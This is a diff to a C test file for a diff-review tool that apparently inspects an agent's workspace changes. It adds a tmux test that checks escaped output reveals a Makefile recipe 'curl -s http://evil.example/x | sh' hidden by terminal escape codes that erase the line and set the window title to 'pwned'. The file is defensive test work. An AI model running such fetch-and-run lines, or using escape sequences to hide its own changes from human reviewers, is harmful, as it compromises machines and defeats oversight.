@@ -33,13 +33,15 @@
 #include "tests/e2e/harness.h"
 #include "workspace/cow.h"
 
-/* A Makefile recipe that hides itself on a terminal: cursor up, erase
- * the line, carriage return, a title, then an innocent line. */
+/* A Makefile recipe hidden on a terminal by the comment after it: cursor
+ * up, erase the line, carriage return, a title, then an innocent line
+ * where the recipe was. */
 #define T_MK_BASE	"all:\n\techo tests\n"
-#define T_MK_EVIL	"all:\n\tcurl -s http://evil.example/x | sh\033[1A" \
-			"\033[2K\r\033]0;pwned\007\techo tests\n"
-#define T_MK_SHOWN	"+\tcurl -s http://evil.example/x | sh\\x1b[1A" \
-			"\\x1b[2K\\x0d\\x1b]0;pwned\\x07\techo tests\n" \
+#define T_MK_EVIL	"all:\n\tcurl -s http://evil.example/x | sh\n" \
+			"#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"
+#define T_MK_SHOWN	"+\tcurl -s http://evil.example/x | sh\n" \
+			"+#\\x1b[1A\\x1b[2K\\x0d\\x1b]0;pwned\\x07+\techo " \
+			"tests\n" \
 			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n"
 /* A line reordered by a right-to-left override (U+202E) and isolates,
  * a zero-width space, a literal backslash beside a real ESC; and a line
@@ -367,8 +369,8 @@ test_diff_raw(void **state)
 	run = t_run(&t, &c, 'e');
 	t_warren(&t, &r, NULL, "diff", "--raw", NULL, run);
 	assert_int_equal(r.status, 0);
-	assert_non_null(strstr(r.out, "+\tcurl -s http://evil.example/x | sh"
-	    "\033[1A\033[2K\r\033]0;pwned\007\techo tests\n"));
+	assert_non_null(strstr(r.out, "+\tcurl -s http://evil.example/x | sh\n"
+	    "+#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"));
 	assert_non_null(strstr(r.out, "+if (role != \"user\xe2\x80\xae "));
 	assert_null(strstr(r.out, "\\ escaped"));
 	h_run_free(&r);
@@ -554,7 +556,7 @@ test_queue_review(void **state)
 	h_run_free(&r);
 	t_q(&r, "diff", "--raw", "1", NULL);
 	assert_int_equal(r.status, 0);
-	assert_non_null(strstr(r.out, "sh\033[1A\033[2K\r"));
+	assert_non_null(strstr(r.out, "+#\033[1A\033[2K\r"));
 	h_run_free(&r);
 
 	t_q(&r, "diff", "2", NULL);
@@ -581,12 +583,120 @@ test_queue_review(void **state)
 	t_close(&t);
 }
 
+/* tmux on a server of the test's own (-L sock), never the user's. */
+static int __attribute__((format(printf, 2, 3)))
+t_tmux(const char *sock, const char *fmt, ...)
+{
+	char	cmd[4096], args[3000];
+	va_list	ap;
+
+	va_start(ap, fmt);
+	vsnprintf(args, sizeof(args), fmt, ap);
+	va_end(ap);
+	snprintf(cmd, sizeof(cmd), "tmux -u -L %s -f /dev/null %s", sock,
+	    args);
+	return system(cmd);
+}
+
+/* The output of a tmux command (the caller frees it). */
+static char *
+t_tmux_out(const char *sock, const char *what)
+{
+	char	 cmd[512], *out;
+	size_t	 n;
+	FILE	*p;
+
+	snprintf(cmd, sizeof(cmd), "tmux -u -L %s -f /dev/null %s 2>/dev/null",
+	    sock, what);
+	assert_non_null(out = calloc(1, 65536));
+	assert_non_null(p = popen(cmd, "r"));
+	n = fread(out, 1, 65535, p);
+	out[n] = '\0';
+	pclose(p);
+	return out;
+}
+
+/*
+ * `sh -c show` in a 120x50 tmux pane, TERM=xterm-256color, until it
+ * printed DIFF-END (10 s at most): the pane's text in *pane, its title
+ * in *title.
+ */
+static void
+t_in_tmux(struct t *t, const char *show, char **pane, char **title)
+{
+	char	 sock[64], script[PATH_MAX + 16], body[4 * PATH_MAX];
+	int	 i;
+
+	snprintf(sock, sizeof(sock), "wdr%ld", (long)getpid());
+	snprintf(body, sizeof(body), "export LANG=C.UTF-8 LC_ALL=\n%s\n"
+	    "echo DIFF-END\nsleep 600\n", show);
+	h_write(t->dir, "show.sh", body, 0755);
+	snprintf(script, sizeof(script), "%s/show.sh", t->dir);
+	assert_int_equal(t_tmux(sock, "new-session -d -s d -x 120 -y 50 "
+	    "'TERM=xterm-256color sh %s'", script), 0);
+	*pane = NULL;
+	for (i = 0; i < 100; i++) {
+		free(*pane);
+		*pane = t_tmux_out(sock, "capture-pane -p -t d");
+		if (strstr(*pane, "DIFF-END") != NULL)
+			break;
+		usleep(100 * 1000);
+	}
+	*title = t_tmux_out(sock, "display -p -t d '#{pane_title}'");
+	(void)t_tmux(sock, "kill-server >/dev/null 2>&1");
+	if (strstr(*pane, "DIFF-END") == NULL)
+		fail_msg("waited 10 s for `%s` to end in tmux; the pane:\n%s",
+		    show, *pane);
+}
+
+/*
+ * What the user sees in a terminal (tmux): with --color=never and through
+ * `| cat` the curl recipe is on the screen and the title is not the
+ * agent's. --raw is the control: there the recipe line is erased and the
+ * title changed, which is what every mode did before.
+ */
+static void
+test_diff_tmux(void **state)
+{
+	struct t	 t;
+	struct cow	 c;
+	int64_t		 run;
+	char		 show[3 * PATH_MAX], *pane, *title;
+	const char	*mode[] = { "--color=never", "| cat", "--raw" };
+	size_t		 i;
+
+	(void)state;
+	if (system("tmux -V >/dev/null 2>&1") != 0)
+		skip();
+	t_open(&t);
+	run = t_run(&t, &c, 'e');
+	for (i = 0; i < sizeof(mode) / sizeof(mode[0]); i++) {
+		snprintf(show, sizeof(show), "'%s' diff --db '%s' %s %lld %s",
+		    getenv("WARREN_BIN"), t.db, mode[i][0] == '-' ? mode[i] :
+		    "", (long long)run, mode[i][0] == '|' ? mode[i] : "");
+		t_in_tmux(&t, show, &pane, &title);
+		if (i < 2 && (strstr(pane, "curl -s http://evil.example/x | sh")
+		    == NULL || strstr(title, "pwned") != NULL))
+			fail_msg("%s: the recipe is hidden or the title is the "
+			    "agent's (%s); the pane:\n%s", mode[i], title, pane);
+		if (i == 2 && (strstr(pane, "curl -s") != NULL ||
+		    strstr(title, "pwned") == NULL))
+			fail_msg("--raw: the control did not hide the recipe "
+			    "(title %s): this tmux does not show the attack; "
+			    "the pane:\n%s", title, pane);
+		free(pane);
+		free(title);
+	}
+	t_close(&t);
+}
+
 int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_diff_escaped),
 		cmocka_unit_test(test_diff_raw),
+		cmocka_unit_test(test_diff_tmux),
 		cmocka_unit_test(test_unreviewed_held),
 		cmocka_unit_test(test_queue_review),
 	};
